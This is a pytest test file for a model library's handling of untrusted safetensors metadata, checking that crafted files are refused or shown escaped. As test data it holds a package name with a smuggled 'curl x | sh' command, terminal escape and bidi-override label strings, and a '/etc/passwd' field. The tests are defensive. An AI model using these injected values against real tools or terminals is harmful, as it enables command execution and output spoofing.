"""A model file from anyone: its metadata is checked before use and shown escaped, never run or imported.

Every command that reads a file answers with its result, or with one line and exit code 2.
"""
from __future__ import annotations

import json
import re
import sys
import unicodedata
from pathlib import Path

import pytest
import torch
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image
from safetensors.torch import load_file, save

import zoo
from zoo._modelfile.read import read_metadata
from zoo._untrusted import is_distribution, is_version, one_line
from zoo.cli import cli
from zoo.drawing import Canvas
from zoo.errors import ZooError

SPEC = "timm/test_resnet+cls3"
NASTY = ["ant\x1b[2J\x1b]0;owned\x07", "bee\nzoo: error: fake\r\n", "wasp\u202eexe.txt\u2028\x00\ud800"]


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> Path:
    """A tiny timm model saved with a freeze policy and labels, and a photo to predict on."""
    folder = tmp_path_factory.mktemp("untrusted")
    model = zoo.build(SPEC, freeze="layer4")
    zoo.save(model, folder / "good.safetensors", labels=["ant", "bee", "wasp"])
    Image.new("RGB", (64, 48), (200, 120, 40)).save(folder / "photo.png")
    return folder


def craft(made: Path, name: str, meta: dict) -> Path:
    """A copy of the good file with ``meta`` as its zoo metadata (the tensors and their checksum kept)."""
    target = made / name
    target.write_bytes(save(load_file(made / "good.safetensors"), metadata={"format": "pt", "zoo": json.dumps(meta)}))
    return target


def zoo_cli(*args: str):
    return CliRunner().invoke(cli, list(args))


def commands(path: Path, made: Path) -> dict[str, tuple[str, ...]]:
    """Every command that reads a model file, each as cheap as it can be."""
    return {
        "info": ("info", str(path)),
        "info-json": ("info", str(path), "--json"),
        "build": ("build", str(path)),
        "predict": ("predict", str(path), str(made / "photo.png"), "--out", str(made / "drawn")),
        "bench": ("bench", str(path), "--mode", "infer", "-b", "1", "--img-size", "32", "--warmup", "0",
                  "--iters", "1", "--repeats", "1"),
    }


def printable(text: str) -> bool:
    """Nothing a terminal would act on: no control character but the newline ending each line."""
    return not any(c != "\n" and (unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp") or c in "\u202e\u2066")
                   for c in text)


def assert_answered(result, what: str) -> None:
    """A result, or one line on stderr and exit code 2: never a traceback, never several lines."""
    assert result.exception is None or isinstance(result.exception, SystemExit), (what, repr(result.exception))
    assert printable(result.stdout) and printable(result.stderr), (what, result.stdout, result.stderr)
    text = result.stderr if what.endswith("json") else result.stdout + result.stderr  # JSON keeps the data whole
    assert all(len(line) <= 2100 for line in text.splitlines()), what
    if result.exit_code == 0:
        assert all(line.startswith("zoo: warning: ") for line in result.stderr.splitlines()), (what, result.stderr)
    else:
        assert result.exit_code == 2, (what, result.exit_code, result.output)
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("zoo: error: "), (what, result.stderr)


def assert_refused(result, pattern: str = "damaged or suspicious") -> str:
    assert_answered(result, pattern)
    assert result.exit_code == 2, result.output
    assert re.search(pattern, result.stderr), result.stderr
    return result.stderr


# --- the file from issue 15 -----------------------------------------------------------------------------

def test_crafted_plugin_table_is_refused_without_suggesting_a_command(made):
    meta = read_metadata(made / "good.safetensors")
    meta["spec"] = "evil/thing+zoo/cls3"
    meta["plugins"] = [{"kind": "backbone", "part": "evil/thing", "plugin": "os",
                        "distribution": "evil-pkg; curl x | sh", "version": "1.0\nrun me"}]
    path = craft(made, "crafted.safetensors", meta)
    for what, args in commands(path, made).items():
        error = assert_refused(zoo_cli(*args))
        assert "pip install" not in error and "curl" not in error.replace("evil-pkg; curl x | sh", ""), (what, error)
    with pytest.raises(ZooError, match="damaged or suspicious: its plugin list names the distribution") as caught:
        zoo.load(path)
    assert "\n" not in str(caught.value) and "pip install" not in str(caught.value)


def test_a_bad_version_alone_is_refused_too(made):
    meta = read_metadata(made / "good.safetensors")
    meta["plugins"] = [{**meta["plugins"][0], "version": "1.0\nrun me"}]
    error = assert_refused(zoo_cli("build", str(craft(made, "version.safetensors", meta))))
    assert r"1.0\nrun me" in error and "not a valid version (PEP 440)" in error


def test_a_valid_missing_plugin_still_gets_its_install_command(made):
    meta = read_metadata(made / "good.safetensors")
    meta["spec"] = "acme/supernet+zoo/cls3"
    meta["plugins"] = [{"kind": "backbone", "part": "acme/supernet", "plugin": "acme", "distribution": "zoo-acme",
                        "version": "2.0.1"}]
    error = assert_refused(zoo_cli("build", str(craft(made, "acme.safetensors", meta))), "needs backbone")
    assert error.strip().endswith("pip install zoo-acme==2.0.1")


def test_nothing_named_in_a_file_is_imported(made, tmp_path, monkeypatch):
    """A part that no installed plugin provides is an error, even when an importable module has its name."""
    (tmp_path / "zoo_probe.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w').close()\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    meta = read_metadata(made / "good.safetensors")
    meta["spec"] = "zoo_probe/thing+zoo/cls3"
    meta["plugins"] = [{"kind": "backbone", "part": "zoo_probe/thing", "plugin": "zoo_probe",
                        "distribution": "zoo-probe", "version": "1.0"}]
    path = craft(made, "probe.safetensors", meta)
    with pytest.raises(ZooError, match="needs backbone zoo_probe/thing"):
        zoo.load(path)
    assert_refused(zoo_cli("build", str(path)), "needs backbone zoo_probe/thing")
    assert not (tmp_path / "ran").exists() and "zoo_probe" not in sys.modules


# --- labels ---------------------------------------------------------------------------------------------

def test_control_characters_in_labels_are_escaped_everywhere(made, monkeypatch):
    meta = read_metadata(made / "good.safetensors")
    meta["labels"] = {"cls3": NASTY}
    path = craft(made, "labels.safetensors", meta)

    info = zoo_cli("info", str(path))
    assert_answered(info, "info")
    line = next(line for line in info.stdout.splitlines() if line.startswith("labels cls3: "))
    assert r"ant\x1b[2J\x1b]0;owned\x07, bee\nzoo: error: fake\r\n, wasp\u202eexe.txt\u2028\x00\ud800" in line

    drawn: list[str] = []
    monkeypatch.setattr(Canvas, "_text", lambda self, xy, text, color: drawn.append(text))
    predicted = zoo_cli("predict", str(path), str(made / "photo.png"), "--top-k", "3", "--out", str(made / "drawn"))
    assert_answered(predicted, "predict")
    assert predicted.exit_code == 0 and r"bee\nzoo: error: fake\r\n" in predicted.stdout
    assert len(drawn) == 1 and printable(drawn[0]) and r"\x1b[2J" in drawn[0]

    model = zoo.load(path)
    assert model.labels["cls3"][0] == r"ant\x1b[2J\x1b]0;owned\x07"


def test_labels_that_come_with_a_file_as_weights_are_escaped_too(made):
    meta = read_metadata(made / "good.safetensors")
    meta["labels"] = {"cls3": NASTY}
    model = zoo.build(SPEC, weights=str(craft(made, "weights.safetensors", meta)))
    assert model.labels["cls3"][1] == r"bee\nzoo: error: fake\r\n"


def test_long_labels_are_cut_and_say_how_long_they_were(made):
    meta = read_metadata(made / "good.safetensors")
    meta["labels"] = {"cls3": ["a" * 3000, "b", "c"]}
    result = zoo_cli("info", str(craft(made, "long.safetensors", meta)))
    assert_answered(result, "info")
    assert "... (3,000 chars)" in result.stdout and "a" * 61 not in result.stdout
    assert zoo.load(made / "long.safetensors").labels["cls3"][0].endswith("... (3,000 chars)")


def test_captions_and_box_labels_are_one_line():
    canvas = Canvas(Image.new("RGB", (64, 64)))
    drawn: list[str] = []
    canvas._text = lambda xy, text, color: drawn.append(text)  # type: ignore[method-assign]
    canvas.caption("one\ntwo")
    canvas.box((1, 1, 20, 20), "x" * 1000 + "\x1b")
    canvas.png()
    assert drawn[0] == r"one\ntwo" and len(drawn[1]) <= 300 and "\n" not in "".join(drawn)


def test_one_line_escapes_and_bounds():
    assert one_line("a\tb\x1b[0m\u202e") == r"a\tb\x1b[0m\u202e"
    assert one_line("x" * 50, 20) == "xxxxxx... (50 chars)" and one_line("x" * 20, 20) == "x" * 20
    assert one_line("\n" * 20, 20) == "\\n" * 3 + "... (20 chars)"
    assert one_line("ünïcode ok, 日本") == "ünïcode ok, 日本"


# --- wrong types in every field -------------------------------------------------------------------------

WRONG = [3.5, True, "text\n\x1b[31m", ["x", 1], {"k": None}]
PLUGIN_KEYS = ("kind", "part", "plugin", "distribution", "version")
HEAD_KEYS = ("name", "part", "size", "options")
# Right types after all: an option left at its default is None; a label or a source is any text, shown escaped.
LEGAL = {(("heads", 0, "options"), "dict"), (("backbone_options",), "dict"), (("frozen_by_hand",), "bool"), (("labels", "cls3", 0), "str"), (("weights", "source"), "str"),
         (("mean", 0), "float")}


def _fields(meta: dict) -> list[tuple[str, ...]]:
    fields = [(key,) for key in meta]
    fields += [("plugins", 0, key) for key in PLUGIN_KEYS]
    fields += [("heads", 0, key) for key in HEAD_KEYS]
    fields += [("weights", key) for key in ("source", "sha256")]
    fields += [("labels", "cls3"), ("labels", "cls3", 0), ("frozen_stages", 0), ("input_size", 0), ("mean", 0),
               ("frozen_parameters", 0)]
    return fields


def _with(meta: dict, field: tuple, value) -> dict:
    meta = json.loads(json.dumps(meta))
    target = meta
    for key in field[:-1]:
        target = target[key]
    target[field[-1]] = value
    return meta


def test_wrong_types_in_every_metadata_field_are_refused_in_one_line(made):
    meta = read_metadata(made / "good.safetensors")
    meta["weights"] = {"source": "r18.pth", "sha256": "0" * 64}
    fields = _fields(meta)
    assert len(fields) >= 30
    for field in fields:
        for value in WRONG + ([-1] if field == ("heads", 0, "size") else []):
            path = craft(made, "wrong.safetensors", _with(meta, field, value))
            legal = (field, type(value).__name__) in LEGAL
            try:
                zoo.load(path)
            except ZooError as exc:
                assert not legal and "\n" not in str(exc) and printable(str(exc)), (field, value, str(exc))
            else:
                assert legal, f"{field} = {value!r} was accepted"
            result = zoo_cli("info", str(path))
            assert_answered(result, f"{field}={value!r}")
            assert result.exit_code == (0 if legal else 2), (field, value)


def test_deeply_nested_metadata_is_damage_not_a_crash(made):
    path = made / "nested.safetensors"
    text = '{"format": "zoo.artifact/1", "spec": ' + "[" * 100_000 + "]" * 100_000 + "}"
    path.write_bytes(save(load_file(made / "good.safetensors"), metadata={"format": "pt", "zoo": text}))
    assert_refused(zoo_cli("info", str(path)), "damaged")


def test_metadata_cannot_pose_as_another_kind_of_answer(made):
    meta = {**read_metadata(made / "good.safetensors"), "kind": "model", "file": "/etc/passwd", "bytes": "many"}
    result = zoo_cli("info", str(craft(made, "kind.safetensors", meta)))
    assert_answered(result, "info")
    assert result.exit_code == 0 and result.stdout.startswith(str(made / "kind.safetensors"))


def test_names_and_versions_follow_their_peps():
    assert is_distribution("zoo-acme") and is_distribution("A.b_c") and not is_distribution("evil-pkg; curl x | sh")
    assert not is_distribution("-x") and not is_distribution("x" * 200) and not is_distribution(7)
    assert is_version("2.14.1") and is_version("1.0rc1.post2.dev3") and not is_version("1.0\nrun me")
    assert not is_version("1.0 ") and not is_version("") and not is_version(None)


# --- the fuzz test --------------------------------------------------------------------------------------

_chars = st.one_of(st.characters(), st.sampled_from("\n\r\t\x00\x1b\x07\x7f\x9b\u202e\u2028\ud800"))
_text = st.text(_chars, max_size=40) | st.text(_chars, min_size=2000, max_size=3000).map(lambda s: s[:2500])
_json = st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | _text,
                     lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_text, inner, max_size=4),
                     max_leaves=12)


@st.composite
def _metadata(draw, good: dict) -> dict:
    """The good file's metadata with some fields replaced: by junk, or by strings of the right type."""
    meta = json.loads(json.dumps(good))
    for field in draw(st.lists(st.sampled_from(_fields(good)), max_size=3)):
        try:
            meta = _with(meta, field, draw(_json | _text))
        except (TypeError, KeyError, IndexError):  # an earlier draw replaced what holds this field
            pass
    if draw(st.booleans()):
        meta["labels"] = {"cls3": draw(st.lists(_text, min_size=3, max_size=3))}
    return meta


FUZZ = dict(deadline=None, derandomize=True, suppress_health_check=[
    HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large])
READING = ("info", "info-json", "build")  # read the file and build the model: no forward pass
FORWARDING = ("predict", "bench")  # a forward pass at the backbone's input size each: fewer examples


def _fuzzed_through(made: Path, data, names: tuple[str, ...]) -> Path:
    """A file with fuzzed metadata, given to the commands ``names``; each must answer or refuse in one line."""
    good = {**read_metadata(made / "good.safetensors"), "weights": {"source": "r18.pth", "sha256": "0" * 64}}
    path = craft(made, "fuzzed.safetensors", data.draw(_metadata(good)))
    for what, args in commands(path, made).items():
        if what in names:
            assert_answered(zoo_cli(*args), what)
    return path


@settings(max_examples=20, **FUZZ)
@given(data=st.data())
def test_fuzzed_metadata_gets_an_answer_or_one_line(made, data):
    path = _fuzzed_through(made, data, READING)
    try:
        model = zoo.load(path)
    except ZooError as exc:
        assert "\n" not in str(exc), str(exc)
    else:
        assert isinstance(model.eval()(torch.zeros(1, 3, 32, 32)), torch.Tensor)


@settings(max_examples=6, **FUZZ)
@given(data=st.data())
def test_fuzzed_metadata_predicted_and_benched_gets_an_answer_or_one_line(made, data):
    _fuzzed_through(made, data, FORWARDING)
